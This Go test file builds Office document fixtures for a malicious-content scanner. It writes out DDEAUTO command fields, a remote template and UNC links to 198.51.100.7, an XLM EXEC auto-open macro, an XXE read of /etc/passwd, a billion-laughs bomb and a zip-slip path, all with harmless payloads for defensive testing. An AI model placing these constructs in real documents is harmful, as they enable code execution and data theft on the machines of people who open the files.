package ooxml

import (
	"bytes"
	"strings"
	"testing"
)

// The fixtures below are the named documents of the tests, regression files
// and fuzz seeds. Each builds a minimal valid package around one construct.

const japanese = "日本語の本文です。令和七年度　予算（案）①"

func benignDocx(tb testing.TB) []byte {
	o := docxWith(ctDocx, para(japanese)+para("第二段落 — second paragraph &amp; more")+
		`<w:p><w:hyperlink r:id="rIdLink"><w:r><w:t>市のホームページ</w:t></w:r></w:hyperlink></w:p>`+
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`+
		`<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:extent cx="9525" cy="9525"/><wp:docPr id="1" name="Picture 1"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="image1.png"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rIdImg"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9525" cy="9525"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`)
	o.extRel("word/document.xml", "rIdLink", relOffice+"hyperlink", "https://www.example.lg.jp/")
	o.rel("word/document.xml", "rIdImg", relOffice+"image", "media/image1.png")
	o.addBytes("word/media/image1.png", "", tinyPNG)
	o.add("word/styles.xml", ctWord+"styles+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+`<w:styles `+wNS+`/>`)
	o.rel("word/document.xml", "rIdStyles", relOffice+"styles", "styles.xml")
	return o.build(tb)
}

func remoteTemplateDocx(tb testing.TB) []byte {
	o := docxWith(ctDocx, para(japanese))
	o.add("word/settings.xml", ctWord+"settings+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<w:settings `+wNS+`><w:zoom w:percent="100"/><w:attachedTemplate r:id="rId1"/><w:defaultTabStop w:val="720"/></w:settings>`)
	o.rel("word/document.xml", "rIdSettings", relOffice+"settings", "settings.xml")
	o.extRel("word/settings.xml", "rId1", relOffice+"attachedTemplate", "http://198.51.100.7/template.dotm")
	return o.build(tb)
}

func ddeDocx(tb testing.TB) []byte {
	body := para(japanese) +
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>計算結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		`<w:p><w:fldSimple w:instr=" DDE cmd &quot;/c notepad&quot; !A0 "><w:r><w:t>単純フィールド</w:t></w:r></w:fldSimple></w:p>` +
		// INCLUDEPICTURE whose instruction is split over runs, with the
		// field characters sharing a run with text.
		`<w:p><w:r><w:t>前</w:t><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://198.51.100.7/x.png" \d</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>画像</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/><w:t>後</w:t></w:r></w:p>` +
		// The name computed by a nested field (QUOTE obfuscation).
		`<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText xml:space="preserve"> calc </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` +
		// A DDE field inside a text box: a whole story inside one run.
		`<w:p><w:r><w:pict><v:shape style="width:100pt;height:50pt"><v:textbox><w:txbxContent><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>箱の中</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>`
	return docxWith(ctDocx, body).build(tb)
}

func vbaDocm(tb testing.TB) []byte {
	o := docxWith(ctDocm, para(japanese))
	o.defaults["bin"] = "application/vnd.ms-office.vbaProject"
	o.addBytes("word/vbaProject.bin", "", oleCFB)
	o.rel("word/document.xml", "rIdVba", relMS2006+"vbaProject", "vbaProject.bin")
	o.add("word/vbaData.xml", "application/vnd.ms-word.vbaData+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+`<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>`)
	o.rel("word/vbaProject.bin", "rId1", relMS2006+"wordVbaData", "vbaData.xml")
	return o.build(tb)
}

func activeXDocx(tb testing.TB) []byte {
	body := para(japanese) +
		`<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:36pt" o:ole=""><v:imagedata r:id="rIdImg" o:title=""/></v:shape><w:control r:id="rIdCtl" w:name="CommandButton1" w:shapeid="_x0000_i1025"/></w:object></w:r></w:p>`
	o := docxWith(ctDocx, body)
	o.rel("word/document.xml", "rIdImg", relOffice+"image", "media/image1.png")
	o.addBytes("word/media/image1.png", "", tinyPNG)
	o.rel("word/document.xml", "rIdCtl", relOffice+"control", "activeX/activeX1.xml")
	o.add("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+`<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}" ax:persistence="persistStreamInit" r:id="rId1"/>`)
	o.rel("word/activeX/activeX1.xml", "rId1", relMS2006+"activeXControlBinary", "activeX1.bin")
	o.defaults["bin"] = "application/vnd.ms-office.activeX"
	o.addBytes("word/activeX/activeX1.bin", "", oleCFB)
	return o.build(tb)
}

func oleDocx(tb testing.TB) []byte {
	body := para(japanese) +
		`<w:p><w:r><w:object w:dxaOrig="1440" w:dyaOrig="720"><v:shape id="_x0000_i1025" type="#_x0000_t75" style="width:72pt;height:36pt" o:ole=""><v:imagedata r:id="rIdImg" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000000" r:id="rIdOle"/></w:object></w:r></w:p>` +
		`<w:p><w:r><w:object><v:shape id="_x0000_i1026" o:ole=""><v:imagedata r:id="rIdImg"/></v:shape><o:OLEObject Type="Link" ProgID="Word.Document.12" ShapeID="_x0000_i1026" r:id="rIdLinked" UpdateMode="Always"/></w:object></w:r></w:p>`
	o := docxWith(ctDocx, body)
	o.rel("word/document.xml", "rIdImg", relOffice+"image", "media/image1.png")
	o.addBytes("word/media/image1.png", "", tinyPNG)
	o.rel("word/document.xml", "rIdOle", relOffice+"oleObject", "embeddings/oleObject1.bin")
	o.defaults["bin"] = "application/vnd.openxmlformats-officedocument.oleObject"
	o.addBytes("word/embeddings/oleObject1.bin", "", oleCFB)
	o.extRel("word/document.xml", "rIdLinked", relOffice+"oleObject", `mhtml:http://198.51.100.7/x.html!x-usc:http://198.51.100.7/x.html`)
	return o.build(tb)
}

// xlsxWith returns a workbook with one Japanese sheet plus extra sheets and
// names given as workbook.xml fragments.
func xlsxWith(mainCT, extraSheets, names string) *opc {
	o := newOPC()
	view := `<workbookView/>`
	if extraSheets != "" {
		view = `<workbookView activeTab="1"/>` // the Japanese sheet, after the extras
	}
	o.add("xl/workbook.xml", mainCT, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><bookViews>`+view+`</bookViews><sheets>`+extraSheets+`<sheet name="予算" sheetId="1" r:id="rIdS1"/></sheets>`+names+`<calcPr calcId="0"/></workbook>`)
	o.rel("", "rId1", rtOffice, "xl/workbook.xml")
	o.add("xl/worksheets/sheet1.xml", ctSheet+"worksheet+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>日本語の本文</t></is></c><c r="B1"><v>42</v></c></row></sheetData></worksheet>`)
	o.rel("xl/workbook.xml", "rIdS1", relOffice+"worksheet", "worksheets/sheet1.xml")
	return o
}

const ctXlsx = ctSheet + "sheet.main+xml"
const ctXlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

func xlmXlsm(tb testing.TB) []byte {
	o := xlsxWith(ctXlsm, `<sheet name="Macro1" sheetId="2" r:id="rIdM1"/>`,
		`<definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName><definedName name="Auto_Open1" hidden="1">Macro1!$A$2</definedName><definedName name="Local" localSheetId="1">予算!$A$1</definedName><definedName name="Total">予算!$B$1</definedName></definedNames>`)
	o.add("xl/macrosheets/sheet1.xml", "application/vnd.ms-excel.macrosheet+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2"><f>HALT()</f></c></row></sheetData></xm:macrosheet>`)
	o.rel("xl/workbook.xml", "rIdM1", relMS2006+"xlMacrosheet", "macrosheets/sheet1.xml")
	o.add("xl/dialogsheets/sheet1.xml", ctSheet+"dialogsheet+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+`<dialogsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`)
	o.rel("xl/workbook.xml", "rIdD1", relOffice+"dialogsheet", "dialogsheets/sheet1.xml")
	return o.build(tb)
}

func externalXlsx(tb testing.TB) []byte {
	o := xlsxWith(ctXlsx, "", `<externalReferences><externalReference r:id="rIdX1"/></externalReferences><definedNames><definedName name="Remote">[1]Sheet1!$A$1</definedName></definedNames>`)
	o.add("xl/externalLinks/externalLink1.xml", ctSheet+"externalLink+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>`)
	o.rel("xl/workbook.xml", "rIdX1", relOffice+"externalLink", "externalLinks/externalLink1.xml")
	o.extRel("xl/externalLinks/externalLink1.xml", "rId1", relOffice+"externalLinkPath", `file:///\\198.51.100.7\share\book.xlsx`)
	o.add("xl/connections.xml", ctSheet+"connections+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="web" type="4"><webPr url="http://198.51.100.7/data"/></connection></connections>`)
	o.rel("xl/workbook.xml", "rIdC", relOffice+"connections", "connections.xml")
	// A formula into the removed external workbook, with a cached value;
	// printer settings; a table filled by a web query.
	sheet := o.parts[1].data
	sheet = bytes.Replace(sheet, []byte(`<c r="B1"><v>42</v></c>`), []byte(`<c r="B1"><f>[1]Sheet1!A1*2</f><v>42</v></c>`), 1)
	sheet = bytes.Replace(sheet, []byte(`</sheetData>`), []byte(`</sheetData><pageSetup orientation="landscape" r:id="rIdPS"/><tableParts count="1"><tablePart r:id="rIdT"/></tableParts>`), 1)
	o.parts[1].data = sheet
	o.addBytes("xl/printerSettings/printerSettings1.bin", ctSheet+"printerSettings", []byte("\x00\x01printer"))
	o.rel("xl/worksheets/sheet1.xml", "rIdPS", relOffice+"printerSettings", "../printerSettings/printerSettings1.bin")
	o.add("xl/tables/table1.xml", ctSheet+"table+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="Query1" displayName="Query1" ref="A1:B1" tableType="queryTable" headerRowCount="0" totalsRowShown="0"><tableColumns count="2"><tableColumn id="1" uniqueName="1" name="A" queryTableFieldId="1"/><tableColumn id="2" uniqueName="2" name="B" queryTableFieldId="2"/></tableColumns></table>`)
	o.rel("xl/worksheets/sheet1.xml", "rIdT", relOffice+"table", "../tables/table1.xml")
	o.add("xl/queryTables/queryTable1.xml", ctSheet+"queryTable+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="web" connectionId="1" autoFormatId="16" applyNumberFormats="0" applyBorderFormats="0" applyFontFormats="0" applyPatternFormats="0" applyAlignmentFormats="0" applyWidthHeightFormats="0"/>`)
	o.rel("xl/tables/table1.xml", "rId1", relOffice+"queryTable", "../queryTables/queryTable1.xml")
	return o.build(tb)
}

// pptxWith returns a presentation with one slide whose shape tree holds
// shapes (p:sp, p:graphicFrame … fragments).
func pptxWith(mainCT, shapes string) *opc {
	const pNS = `xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"`
	o := newOPC()
	o.add("ppt/presentation.xml", mainCT, `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<p:presentation `+pNS+`><p:sldMasterIdLst><p:sldMasterId id="2147483648" r:id="rIdM"/></p:sldMasterIdLst><p:sldIdLst><p:sldId id="256" r:id="rIdS1"/></p:sldIdLst><p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>`)
	o.rel("", "rId1", rtOffice, "ppt/presentation.xml")
	o.add("ppt/slides/slide1.xml", ctPres+"slide+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<p:sld `+pNS+`><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>`+
		`<p:sp><p:nvSpPr><p:cNvPr id="2" name="Title"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="457200" y="457200"/><a:ext cx="8229600" cy="1143000"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr><p:txBody><a:bodyPr/><a:p><a:r><a:rPr lang="ja-JP"/><a:t>日本語の本文</a:t></a:r></a:p></p:txBody></p:sp>`+
		shapes+`</p:spTree></p:cSld></p:sld>`)
	o.rel("ppt/presentation.xml", "rIdS1", relOffice+"slide", "slides/slide1.xml")
	o.add("ppt/slideLayouts/slideLayout1.xml", ctPres+"slideLayout+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<p:sldLayout `+pNS+`><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld></p:sldLayout>`)
	o.rel("ppt/slides/slide1.xml", "rIdL", relOffice+"slideLayout", "../slideLayouts/slideLayout1.xml")
	o.add("ppt/slideMasters/slideMaster1.xml", ctPres+"slideMaster+xml", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<p:sldMaster `+pNS+`><p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/></p:spTree></p:cSld><p:clrMap bg1="lt1" tx1="dk1" bg2="lt2" tx2="dk2" accent1="accent1" accent2="accent2" accent3="accent3" accent4="accent4" accent5="accent5" accent6="accent6" hlink="hlink" folHlink="folHlink"/><p:sldLayoutIdLst><p:sldLayoutId id="2147483649" r:id="rIdL1"/></p:sldLayoutIdLst></p:sldMaster>`)
	o.rel("ppt/slideLayouts/slideLayout1.xml", "rIdM", relOffice+"slideMaster", "../slideMasters/slideMaster1.xml")
	o.rel("ppt/slideMasters/slideMaster1.xml", "rIdL1", relOffice+"slideLayout", "../slideLayouts/slideLayout1.xml")
	o.rel("ppt/presentation.xml", "rIdM", relOffice+"slideMaster", "slideMasters/slideMaster1.xml")
	return o
}

const ctPptx = ctPres + "presentation.main+xml"
const ctPptm = "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"

// oleFrame is PowerPoint 2010's OLE object: an mc:AlternateContent whose
// fallback frame holds the preview picture.
const oleFrame = `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice xmlns:v="urn:schemas-microsoft-com:vml" Requires="v"><p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="1000000" y="2000000"/><a:ext cx="3000000" cy="2000000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj spid="_x0000_s1026" name="Packager Shell Object" r:id="rIdOle" imgW="100" imgH="100" progId="Package"><p:embed/></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></mc:Choice><mc:Fallback><p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="4" name="Object 3"/><p:cNvGraphicFramePr/><p:nvPr/></p:nvGraphicFramePr><p:xfrm><a:off x="1000000" y="2000000"/><a:ext cx="3000000" cy="2000000"/></p:xfrm><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj name="Packager Shell Object" r:id="rIdOle" imgW="100" imgH="100" progId="Package"><p:embed/><p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill><a:blip r:embed="rIdImg"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:oleObj></a:graphicData></a:graphic></p:graphicFrame></mc:Fallback></mc:AlternateContent>`

func macroPptm(tb testing.TB) []byte {
	o := pptxWith(ctPptm, oleFrame+
		`<p:sp><p:nvSpPr><p:cNvPr id="5" name="Button"><a:hlinkClick r:id="" action="ppaction://macro?name=Evil"/></p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>`)
	o.defaults["bin"] = "application/vnd.ms-office.vbaProject"
	o.addBytes("ppt/vbaProject.bin", "", oleCFB)
	o.rel("ppt/presentation.xml", "rIdVba", relMS2006+"vbaProject", "vbaProject.bin")
	o.rel("ppt/slides/slide1.xml", "rIdOle", relOffice+"oleObject", "../embeddings/oleObject1.bin")
	o.addBytes("ppt/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject", oleCFB)
	o.rel("ppt/slides/slide1.xml", "rIdImg", relOffice+"image", "../media/image1.png")
	o.addBytes("ppt/media/image1.png", "", tinyPNG)
	o.add("customUI/customUI14.xml", "", `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>`+"\n"+
		`<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Evil"><ribbon><tabs><tab id="t" label="x"><group id="g" label="g"><button id="b" label="run" onAction="Evil"/></group></tab></tabs></ribbon></customUI>`)
	o.rel("", "rIdUI", relMS2007+"ui/extensibility", "customUI/customUI14.xml")
	o.addBytes("ppt/printerSettings/printerSettings1.bin", ctPres+"printerSettings", []byte("\x00\x01printer"))
	o.rel("ppt/presentation.xml", "rIdPS", relOffice+"printerSettings", "printerSettings/printerSettings1.bin")
	return o.build(tb)
}

// xxeDocx puts a DOCTYPE into the named part of an otherwise benign docx.
func xxeDocx(tb testing.TB, part string) []byte {
	const dtd = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`
	o := docxWith(ctDocx, para(japanese))
	if part == contentTypesName {
		o.ctBody = strings.Replace(o.contentTypesXML(), "<Types", dtd+"<Types", 1)
	}
	for i := range o.parts {
		if o.parts[i].name == part {
			o.parts[i].data = bytes.Replace(o.parts[i].data, []byte("\n<"), []byte("\n"+dtd+"<"), 1)
		}
	}
	return o.build(tb)
}

func billionLaughsDocx(tb testing.TB) []byte {
	var dtd strings.Builder
	dtd.WriteString(`<!DOCTYPE lolz [<!ENTITY lol "lol">`)
	prev := "lol"
	for i := 1; i <= 9; i++ {
		name := "lol" + string(rune('0'+i))
		dtd.WriteString(`<!ENTITY ` + name + ` "` + strings.Repeat("&"+prev+";", 10) + `">`)
		prev = name
	}
	dtd.WriteString(`]>`)
	o := docxWith(ctDocx, para("&"+prev+";"))
	o.parts[0].data = bytes.Replace(o.parts[0].data, []byte("\n<w:document"), []byte("\n"+dtd.String()+"<w:document"), 1)
	return o.build(tb)
}

func zipSlipDocx(tb testing.TB) []byte {
	o := docxWith(ctDocx, para(japanese))
	o.raw = append(o.raw, opcPart{"../../../../tmp/evil.txt", []byte("pwned")})
	return o.build(tb)
}

func dupPartDocx(tb testing.TB) []byte {
	o := docxWith(ctDocx, para(japanese))
	o.raw = append(o.raw, opcPart{"Word/Document.xml", []byte("<w:document/>")})
	return o.build(tb)
}

func bombDocx(tb testing.TB) []byte {
	o := docxWith(ctDocx, para(japanese))
	o.addBytes("word/media/image2.png", "", append(append([]byte{}, tinyPNG...), make([]byte, 4<<20)...))
	return o.build(tb)
}

func benignPptx(tb testing.TB) []byte { return pptxWith(ctPptx, "").build(tb) }

func benignXlsx(tb testing.TB) []byte { return xlsxWith(ctXlsx, "", "").build(tb) }

func vmlLinkDocx(tb testing.TB) []byte {
	body := para(japanese) +
		`<w:p><w:r><w:pict><v:shape id="s1" style="width:50pt;height:50pt" href="file://198.51.100.7/share/x.lnk"><v:imagedata r:id="rIdImg" src="\\198.51.100.7\share\x.png"/></v:shape></w:pict></w:r></w:p>`
	o := docxWith(ctDocx, body)
	o.rel("word/document.xml", "rIdImg", relOffice+"image", "media/image1.png")
	o.addBytes("word/media/image1.png", "", tinyPNG)
	return o.build(tb)
}
